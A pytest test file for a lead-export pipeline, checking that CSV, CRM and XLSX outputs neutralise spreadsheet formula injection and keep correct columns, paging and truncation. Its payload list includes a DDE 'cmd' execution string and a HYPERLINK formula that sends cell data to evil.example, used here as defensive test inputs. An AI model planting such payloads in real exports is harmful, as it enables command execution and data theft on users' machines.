"""What leaves the house in other tools' shapes: the right columns, nothing live, nothing lost, nothing overwritten unsaid."""

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from io import StringIO
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from release.world import make_warehouse

from pipelines.errors import Stop
from pipelines.reader import Reader, open_release
from pipelines.release import cells, layouts
from pipelines.release.cells import harmless_words
from pipelines.release.files import CELL_CHARACTERS, write_xlsx
from pipelines.release.layouts import LAYOUTS, crm_tables, export
from pipelines.tables import read_tables
from pipelines.warehouse import Warehouse

SHARED = Path(__file__).parents[2] / "shared" / "hostile" / "csv" / "csv_injection.json"
PAYLOADS = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000＝1+1",
    "＝1+1", "＋1", "－1", "＠1", "﹦1+1", "﹢1", "﹣1", "﹫1", ";=1+1", "x;=1+1;y", "x;\"=1+1", "x\t=1+1", "x\n=1+1", "x\r\n-1",
    "x; \u00a0@SUM(1)", '"=1+1', '"";=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "+49 30 1234567",
    "-Acme", "@acme", "\x00=1", "\x0b=1", "；=1",
)  # fmt: skip
FORMULA_STARTS = tuple("=+-@＝＋－＠﹦﹢﹣﹫\t\r\n")
BLANKS = ' \t\r\n\x00\x0b\x0c\u00a0\u200b\ufeff\u3000"'
HUBSPOT_COMPANIES = (
    "Company name,Company domain name,hs_additional_domains,Website URL,Industry,Number of employees,Annual revenue,"
    "Phone number,Street address,City,State/Region,"
    "Postal code,Country/Region,Description,Year founded,LinkedIn company page,Lifecycle stage,Lead status,Company owner"
)
HUBSPOT_CONTACTS = (
    "First name,Last name,Email,Phone number,Job title,Company name,Company domain name,Website URL,City,State/Region,"
    "Country/Region,Lifecycle stage,Lead status"
)
SALESFORCE = (
    "LastName,FirstName,Company,Title,Email,Phone,Website,Street,City,State,PostalCode,Country,Industry,AnnualRevenue,"
    "NumberOfEmployees,LeadSource,Status,Rating,Description,OwnerId"
)


@pytest.fixture(scope="module")
def mart(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
    with released(make_warehouse(tmp_path_factory.mktemp("mart"))) as reader:
        yield reader


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
    """Payloads wherever a lead list or a web page has text."""
    texts = "company first_name last_name email job_title phone city channel campaign".split()
    payloads = [*PAYLOADS, *(json.loads(SHARED.read_text("utf-8")) if SHARED.exists() else ())]
    people = [{**dict.fromkeys(texts, each), "domain": f"p{number}.example"} for number, each in enumerate(payloads)]
    stated = "name description street city region postcode country phone linkedin industry mentions certification".split()
    facts = {f"p{number}.example": [(name, each) for name in stated] for number, each in enumerate(payloads)}
    with released(make_warehouse(tmp_path_factory.mktemp("hostile"), people, facts)) as reader:
        yield reader


@contextmanager
def released(warehouse: Warehouse) -> Iterator[Reader]:
    """Lend a reader of what a release has of a warehouse."""
    with warehouse:
        warehouse.copy_release(warehouse.path.with_name("released.duckdb"))
    with open_release(warehouse.path.with_name("released.duckdb")) as reader:
        yield reader


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def is_live(cell: str) -> bool:
    return cell[:1] in tuple("\t\r\n") or cell.strip(BLANKS).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("layout", ["csv", "hubspot", "salesforce"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_formula_lives_in_any_csv_whatever_separates_cells(
    hostile: Reader, tmp_path: Path, layout: str, separator: str
) -> None:
    paths = export(hostile, layout, tmp_path)
    cells = [
        cell
        for path in paths
        for row in csv.reader(StringIO(path.read_bytes().decode(), newline=""), delimiter=separator)
        for cell in row
    ]
    assert len(cells) > 100
    assert [cell for cell in cells if is_live(cell)] == []


def test_the_payloads_would_be_live_without_us(hostile: Reader, tmp_path: Path) -> None:
    (path,) = export(hostile, "parquet", tmp_path)
    cells = [str(value) for column in pq.read_table(path).columns for value in column.to_pylist()]
    assert sum(is_live(cell) for cell in cells) > 300


def test_headings_are_neutralised_too() -> None:
    assert harmless_words(["fit", "=1+1", " ＋x", "a;-b"]) == ["fit", "'=1+1", " '＋x", "a;'-b"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_one_cell_among_harmless_ones_is_found(payload: str) -> None:
    import pyarrow as pa

    others = ["plain", None, "", "a-b", "x=1", "Zürich"]
    for texts in ([payload, *others], [*others, payload], [*others * 9, payload, payload]):
        column = pa.chunked_array([["=", *texts], others]).slice(1)
        got = cells.harmless(column).to_pylist()
        assert [each for each in got if each is not None and any(map(is_live, re.split("[;；\t\r\n]", each)))] == []
        assert [each for each in got if each in others] == [*(each for each in texts if each in others), *others]
    assert cells.harmless(pa.chunked_array([others])).to_pylist() == others
    assert cells.harmless(pa.chunked_array([[None], []], pa.string())).to_pylist() == [None]


def test_harmless_text_stays_as_it_is() -> None:
    words = ["Smith & Sons", "a - b", "3=3", "info@acme.example", "1-2", "x;y", "Zürich", "", "line\nline", "'=1"]
    assert harmless_words(words) == words


def test_parquet_and_jsonl_keep_the_raw_value(hostile: Reader, tmp_path: Path) -> None:
    (parquet,), (lines,) = export(hostile, "parquet", tmp_path), export(hostile, "jsonl", tmp_path)
    rows = [json.loads(line) for line in lines.read_text("utf-8").split("\n") if line]
    assert set(PAYLOADS) <= {row["company"] for row in rows}
    assert set(PAYLOADS) <= set(pq.read_table(parquet).column("company").to_pylist())


def test_xlsx_holds_no_formula_no_link_no_macro(hostile: Reader, tmp_path: Path) -> None:
    (path,) = export(hostile, "xlsx", tmp_path)
    with zipfile.ZipFile(path) as archive:
        names, content = archive.namelist(), b"".join(archive.read(name) for name in archive.namelist())
    assert not re.search(rb"<f[ >]|hyperlink |externalLink|vbaProject", content)
    assert not [name for name in names if "vba" in name or "external" in name]
    assert b"=cmd|" in content


def test_xlsx_keeps_numbers_as_numbers_and_cuts_what_no_cell_holds(tmp_path: Path) -> None:
    import pyarrow as pa

    page = pa.table({"n": [7], "text": ["😀" * CELL_CHARACTERS], "list": [["a", "b"]], "none": pa.array([None], pa.string())})
    write_xlsx(tmp_path / "x.xlsx", [page])
    with zipfile.ZipFile(tmp_path / "x.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="A2"><v>7</v></c>' in sheet
    assert ">a; b<" in sheet
    assert 'r="D2"' not in sheet
    (text,) = re.findall("(😀+…?)", sheet)
    assert text.endswith("…")
    assert CELL_CHARACTERS - 1 <= len(text.encode("utf-16-le")) // 2 <= CELL_CHARACTERS


@pytest.mark.parametrize("layout", LAYOUTS)
def test_the_same_rows_give_the_same_bytes(mart: Reader, tmp_path: Path, layout: str) -> None:
    one, two = export(mart, layout, tmp_path / "one"), export(mart, layout, tmp_path / "two")
    assert [path.read_bytes() for path in one] == [path.read_bytes() for path in two]


def test_csv_has_every_column_of_the_leads(mart: Reader, tmp_path: Path) -> None:
    (path,) = export(mart, "csv", tmp_path)
    assert path.name == "leads.csv"
    assert list(read(path)[0]) == [name for name, _ in mart.columns("mart.lead")]
    assert len(read(path)) == mart.count("mart.lead")
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_hubspot_headings_are_its_own_labels(mart: Reader, tmp_path: Path) -> None:
    companies, contacts = export(mart, "hubspot", tmp_path)
    assert (companies.name, contacts.name) == ("hubspot-companies.csv", "hubspot-contacts.csv")
    assert ",".join(read(companies)[0]).startswith(HUBSPOT_COMPANIES + ",segment,score,signals,")
    assert ",".join(read(contacts)[0]).startswith(HUBSPOT_CONTACTS + ",segment,score,signals,")


def test_hubspot_companies_carry_values_figures_and_stage(mart: Reader, tmp_path: Path) -> None:
    rows = {row["Company name"]: row for row in read(export(mart, "hubspot", tmp_path)[0])}
    anchor, crane, name, friend = (rows[each] for each in ("Tin Anchor GmbH", "Velvet Crane", "Only A Name", "Old Friend"))
    assert anchor["Number of employees"] == "120"
    assert anchor["Industry"] == "FINANCIAL_SERVICES"
    assert anchor["Phone number"] == "'+43133333"
    assert anchor["Lifecycle stage"] == "salesqualifiedlead"
    assert anchor["Company owner"] == "kim@quiet-harbour.example"
    assert (anchor["segment"], anchor["score"]) == ("problem", "100")
    assert (crane["Lifecycle stage"], crane["Lead status"], crane["segment"]) == ("lead", "UNQUALIFIED", "outside")
    assert (name["Country/Region"], name["Company domain name"], name["score"]) == ("FR", "", "")
    assert (name["segment"], name["Lead status"]) == ("unknown", "")
    assert friend["Lifecycle stage"] == "customer"


def test_what_differs_from_the_lead_list_is_said_and_what_agrees_is_not(mart: Reader, tmp_path: Path) -> None:
    companies, contacts = (read(path) for path in export(mart, "hubspot", tmp_path))
    said = {row["Company name"]: row["differs_from_lead_list"] for row in companies}
    assert said["Tin Anchor GmbH"] == (
        "company: list says Tin Anchor, we say Tin Anchor GmbH · city: list says Bremen, we say Wien "
        "· country: list says DE, we say AT"
    )
    assert said["Velvet Crane"] == said["Only A Name"] == ""
    ada = next(row for row in contacts if row["First name"] == "Ada")
    assert "phone: list says +4930111111, we say +43133333" in ada["differs_from_lead_list"]


def test_sources_say_which_page_a_value_came_from(mart: Reader, tmp_path: Path) -> None:
    rows = {row["Company name"]: row["sources"] for row in read(export(mart, "hubspot", tmp_path)[0])}
    assert rows["Velvet Crane"] == "country, employees, name: https://velvet-crane.example/about"
    assert rows["Only A Name"] == ""


@pytest.fixture
def altered(tmp_path: Path) -> Iterator[Reader]:
    """A release whose organization has values, and whose leads bring places, that the others have not."""
    brought = {"domain": "tin-anchor.example", "company": "Tin Anchor", "last_name": "Brandt"}
    people: list[dict[str, object]] = [
        {**brought, "first_name": "Elsewhere", "street": "Werft 7", "postcode": "28195", "city": "Bremen", "country": "DE"},
        {**brought, "first_name": "Here", "street": "am kai 1", "city": "Wien"},
        {**brought, "first_name": "Other street", "street": "Kai 99", "city": "Wien"},
        {**brought, "first_name": "Nowhere"},
        {**brought, "first_name": "Long", "email": f"{'x' * 70}@tin-anchor.example", "phone": "0" * 41, "channel": "c" * 41},
    ]
    with released(make_warehouse(tmp_path, people)):
        pass
    path = tmp_path / "released.duckdb"
    with duckdb.connect(path) as connection:
        connection.execute("update mart.organization set revenue = 1250000")
        connection.execute("update mart.organization set listed_domains = ['a.example', 'tin-anchor.example', 'b.example']")
        connection.execute("update mart.lead set route_owner = '005A0000001B2cD'")
    with open_release(path) as reader:
        yield reader


def test_money_and_other_domains_reach_the_fields_crms_have_for_them(altered: Reader, tmp_path: Path) -> None:
    company = next(row for row in read(export(altered, "hubspot", tmp_path)[0]) if row["Company name"] == "Tin Anchor GmbH")
    assert company["hs_additional_domains"] == "a.example; b.example"
    assert (company["Annual revenue"], company["Company owner"]) == ("1250000", "")
    lead = read(export(altered, "salesforce", tmp_path)[0])[0]
    assert (lead["AnnualRevenue"], lead["OwnerId"]) == ("1250000", "005A0000001B2cD")


def test_a_place_is_the_lists_or_the_organizations_and_never_both(altered: Reader, tmp_path: Path) -> None:
    rows = {row["FirstName"]: row for row in read(export(altered, "salesforce", tmp_path)[0])}
    place = ("Street", "PostalCode", "City", "Country")
    assert {name: tuple(row[each] for each in place) for name, row in rows.items()} == {
        "Elsewhere": ("Werft 7", "28195", "Bremen", "DE"),
        "Here": ("am kai 1", "1010", "Wien", "AT"),
        "Other street": ("Kai 99", "", "Wien", "AT"),
        "Nowhere": ("Am Kai 1", "1010", "Wien", "AT"),
        "Long": ("Am Kai 1", "1010", "Wien", "AT"),
    }


def test_what_is_too_long_for_salesforce_is_cut_but_no_address_or_number(altered: Reader, tmp_path: Path) -> None:
    row = next(row for row in read(export(altered, "salesforce", tmp_path)[0]) if row["FirstName"] == "Long")
    assert (row["Email"], row["Phone"], row["LeadSource"]) == ("", "", "c" * 40)


def test_a_company_without_a_person_is_no_hubspot_contact(mart: Reader, tmp_path: Path) -> None:
    contacts = read(export(mart, "hubspot", tmp_path)[1])
    assert sorted(row["First name"] + row["Last name"] for row in contacts) == ["AdaBrandt", "Bo", "Quast"]


def test_what_the_list_brought_stands_and_no_address_is_put_together_from_two(mart: Reader, tmp_path: Path) -> None:
    rows = {row["FirstName"]: row for row in read(export(mart, "salesforce", tmp_path)[0])}
    place = ("Street", "City", "PostalCode", "Country", "Phone")
    assert [rows["Ada"][each] for each in place] == ["", "Bremen", "", "DE", "'+4930111111"]
    assert [rows["Bo"][each] for each in place] == ["Am Kai 1", "Wien", "1010", "AT", "'+43133333"]


def test_salesforce_takes_every_lead_with_its_required_fields(mart: Reader, tmp_path: Path) -> None:
    (path,) = export(mart, "salesforce", tmp_path)
    rows = read(path)
    assert path.name == "salesforce-leads.csv"
    assert ",".join(rows[0]).startswith(SALESFORCE + ",segment,score,signals,")
    assert len(rows) == mart.count("mart.lead")
    assert all(row["LastName"] and row["Company"] for row in rows)
    assert {row["LastName"] for row in rows} == {"Brandt", "Quast", "[not provided]"}
    by_company = {row["Company"]: row for row in rows}
    assert by_company["Old Friend"]["Status"] == "Closed - Not Converted"
    assert (by_company["Tin Anchor GmbH"]["Rating"], by_company["Only A Name"]["Rating"]) == ("Hot", "")


@pytest.mark.parametrize("page", [1, 2, 3, 1000])
@pytest.mark.parametrize(("layout", "key"), [("xlsx", ""), ("salesforce", "lead_id"), ("hubspot", "organization_id")])
def test_more_rows_than_a_file_takes_are_split_into_numbered_files(
    mart: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, page: int, layout: str, key: str
) -> None:
    monkeypatch.setattr(layouts, "PAGE", page)
    monkeypatch.setattr(layouts, "RANGE", page)
    monkeypatch.setattr(layouts, "LAYOUTS", {layout: replace(LAYOUTS[layout], most_rows=3)})
    paths = export(mart, layout, tmp_path)
    names = {"xlsx": ["leads"], "salesforce": ["salesforce-leads"], "hubspot": ["hubspot-companies", "hubspot-contacts"]}[layout]
    many = {"hubspot-companies": 2, "hubspot-contacts": 2}
    suffix = LAYOUTS[layout].suffix
    expected = [f"{name}-{n}-of-{many.get(name, 3)}.{suffix}" for name in names for n in range(1, many.get(name, 3) + 1)]
    assert [path.name for path in paths] == expected == sorted(path.name for path in tmp_path.iterdir())
    if key:
        rows = [read(path) for path in paths if "contacts" not in path.name]
        assert all(1 <= len(some) <= 2 for some in rows)
        keys = [row[key] for some in rows for row in some]
        assert len(keys) == len(set(keys)) == mart.count("mart.lead" if key == "lead_id" else "mart.organization")


def test_how_rows_are_paged_does_not_show(mart: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for layout in ("csv", "hubspot"):
        whole = export(mart, layout, tmp_path / "whole")
        with monkeypatch.context() as patch:
            patch.setattr(layouts, "PAGE", 2)
            patch.setattr(layouts, "RANGE", 2)
            paged = export(mart, layout, tmp_path / "paged")
        assert [path.read_bytes() for path in whole] == [path.read_bytes() for path in paged]


def test_limits_are_those_of_the_tools() -> None:
    assert LAYOUTS["hubspot"].most_rows < 250_000
    assert LAYOUTS["salesforce"].most_rows == 50_000
    assert LAYOUTS["xlsx"].most_rows == 1_048_576


def test_no_leads_give_files_with_headings(tmp_path: Path) -> None:
    with released(make_warehouse(tmp_path, [], {})) as reader:
        for layout in LAYOUTS:
            paths = export(reader, layout, tmp_path / "out")
            assert [path for path in paths if path.suffix == ".csv" and len(path.read_text("utf-8").splitlines()) != 1] == []


def test_an_unknown_layout_stops_and_names_the_known_ones(mart: Reader, tmp_path: Path) -> None:
    with pytest.raises(Stop, match="no layout excel; choose from csv, parquet, jsonl, xlsx, hubspot, salesforce"):
        export(mart, "excel", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_an_export_that_fails_leaves_no_file_under_its_name(
    mart: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(path: Path, _: object) -> None:
        path.write_text("half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(layouts, "LAYOUTS", {"csv": replace(LAYOUTS["csv"], write=fail)})
    with pytest.raises(OSError, match="No space"):
        export(mart, "csv", tmp_path)
    assert not (tmp_path / "leads.csv").exists()


@pytest.mark.parametrize(("count", "length"), [(3, 20), (30, 30), (40, 100), (2, 5000), (100, 9)])
def test_signals_are_cut_between_reasons_and_say_how_many_are_left_out(tmp_path: Path, count: int, length: int) -> None:
    folder = tmp_path / "sql" / "mart"
    folder.mkdir(parents=True)
    (folder / "fit.sql").write_text(
        "-- Fit.\n--\n-- grain: organization_id\ncreate table mart.fit (\n    organization_id varchar, -- Organization.\n"
        "    reasons varchar[] -- Reasons.\n);\n"
    )
    reasons = [f"+{number} {'x' * length}" for number in range(count)]
    with Warehouse(tmp_path / "w.duckdb", read_tables(tmp_path / "sql")) as warehouse:
        warehouse.load("mart.fit", [{"organization_id": "org", "reasons": reasons}])
        warehouse.keep("asked_organization", "select organization_id from mart.fit")
        (row,) = warehouse.rows(crm_tables()["crm.reasons"].sql)
    signals = row["signals"].split(" · ")
    assert len(row["signals"]) <= 1024
    assert len(row["why"]) <= 1024
    left_out = re.fullmatch(r"… and (\d+) more", signals[-1])
    shown = signals[:-1] if left_out else signals
    assert [each[:960] for each in shown] == [each[1:961] for each in reasons[: len(shown)]]
    assert len(shown) + (int(left_out[1]) if left_out else 0) == count


def test_every_sheet_describes_every_column() -> None:
    for table in crm_tables().values():
        assert table.description
        assert all(column.description.endswith(".") for column in table.columns)


@pytest.mark.parametrize("layout", LAYOUTS)
def test_an_export_of_some_holds_them_and_nobody_else(mart: Reader, tmp_path: Path, layout: str) -> None:
    organizations, leads = layouts.EVERYTHING
    crane = f"{organizations} where domain = 'velvet-crane.example'"
    only = layouts.Only(crane, f"{leads} where organization_domain = 'velvet-crane.example'")
    paths = export(mart, layout, tmp_path, only)
    if layout in ("csv", "salesforce"):
        assert [row.get("company") or row["Company"] for row in read(paths[0])] == ["Velvet Crane"]
    if layout == "hubspot":
        assert [[row["Company name"] for row in read(path)] for path in paths] == [["Velvet Crane"], []]
    if layout == "parquet":
        assert pq.read_table(paths[0]).column("company").to_pylist() == ["Velvet Crane"]
    for path in paths:
        content = path.read_bytes()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                content = b"".join(archive.read(name) for name in archive.namelist())
        assert b"Tin Anchor" not in content


def test_an_export_of_some_leads_leaves_out_their_colleagues(mart: Reader, tmp_path: Path) -> None:
    anchor = "select organization_id, 1 as leads from mart.organization where domain = 'tin-anchor.example'"
    only = layouts.Only(anchor, f"{layouts.EVERYTHING.leads} where first_name = 'Bo'")
    companies, contacts = export(mart, "hubspot", tmp_path, only)
    assert [row["Company name"] for row in read(companies)] == ["Tin Anchor GmbH"]
    assert [row["First name"] for row in read(contacts)] == ["Bo"]


@pytest.mark.parametrize("layout", ["csv", "hubspot", "salesforce"])
def test_an_export_of_all_by_choice_is_the_whole_export(mart: Reader, tmp_path: Path, layout: str) -> None:
    chosen = layouts.Only(*(f"{each} where true" for each in layouts.EVERYTHING))
    some, whole = export(mart, layout, tmp_path / "some", chosen), export(mart, layout, tmp_path / "whole")
    assert [path.read_bytes() for path in some] == [path.read_bytes() for path in whole]


def test_a_text_said_by_many_rows_is_made_harmless_in_each() -> None:
    import pyarrow as pa

    texts = ["=1", None, "a", "=1", "a", "\r", None, "\r"]
    assert cells.harmless(pa.chunked_array([texts[:3], texts[3:]])).to_pylist() == [
        "'=1",
        None,
        "a",
        "'=1",
        "a",
        "'\r",
        None,
        "'\r",
    ]
